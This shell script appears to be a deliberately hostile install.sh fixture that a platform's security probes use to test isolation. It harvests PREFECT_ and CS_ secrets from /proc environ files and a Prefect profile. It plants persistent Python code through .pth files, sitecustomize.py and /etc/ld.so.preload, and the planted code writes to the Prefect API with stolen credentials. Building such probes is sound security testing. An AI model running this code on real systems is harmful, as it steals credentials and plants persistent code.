# An attacker's install.sh: while its environment is built it gathers what it can see of the
# platform and hides it in the model's own venv, for run_model to return later (the probe
# install_time_theft). The test that publishes this app appends the platform's real paths.
stolen="$VIRTUAL_ENV/stolen.txt"
: > "$stolen"
{
  for f in /proc/[0-9]*/environ; do tr '\0' '\n' < "$f" | grep -E '^(PREFECT_|CS_)'; done
  cat /root/.prefect/profiles.toml
  ls /root
} >> "$stolen" 2>/dev/null || true

# Plant code where any Python of this environment will run it (issue 19): a .pth and a
# sitecustomize.py in every site-packages folder this build can write, the platform's venv
# of the old single-image design included, and /etc/ld.so.preload. On the Docker tier this
# runs as root in the image build, so it reaches everything in the image; whatever later starts
# a Python there runs planted.py, which records who ran it and, holding any Prefect API login,
# writes a Prefect Variable as the issue's attacker did. The probe planted_code reads the record.
cat > "$PWD/planted.py" <<'PY'
import json, os, sys, time, urllib.request
record = {"uid": os.getuid(), "exe": sys.executable, "argv": sys.argv[:3],
          "platform_env": sorted(k for k in os.environ if k.startswith(("PREFECT_", "CS_")))}
url, auth = os.environ.get("PREFECT_API_URL"), os.environ.get("PREFECT_API_AUTH_STRING")
if url:
    import base64
    request = urllib.request.Request(url.rstrip("/") + "/variables/", method="POST",
        data=json.dumps({"name": "pwned_by_planted_code", "value": json.dumps(record)}).encode(),
        headers={"Content-Type": "application/json"})
    if auth:
        request.add_header("Authorization", "Basic " + base64.b64encode(auth.encode()).decode())
    try:
        record["api"] = urllib.request.urlopen(request, timeout=3).status
    except Exception as exc:
        record["api"] = repr(exc)[:100]
import builtins  # kept in the interpreter too: a warm zygote's work folder is emptied per call
builtins.__dict__.setdefault("_cs_planted", []).append(record)
for folder in (os.environ.get("HOME"), os.getcwd(), "/tmp"):
    try:
        with open(os.path.join(folder or "/nonexistent", "cs-planted.log"), "a") as log:
            log.write(json.dumps(record) + "\n")
        break
    except OSError:
        pass
PY
planted_line="import os; p='$PWD/planted.py'; os.path.exists(p) and exec(open(p).read())"
for python in python3 "$VIRTUAL_ENV/bin/python" /opt/cs/*/bin/python; do
  "$python" -c 'import site; print("\n".join(site.getsitepackages()))' 2>/dev/null
done | sort -u | while read -r folder; do
  [ -d "$folder" ] && [ -w "$folder" ] || continue
  echo "$planted_line" > "$folder/zz-cs-planted.pth" && echo "planted $folder/zz-cs-planted.pth"
  echo "$planted_line" > "$folder/sitecustomize.py" || true
done
if [ -w /etc ]; then
  echo "$PWD/libcs-planted.so" > /etc/ld.so.preload && echo "planted /etc/ld.so.preload"
fi
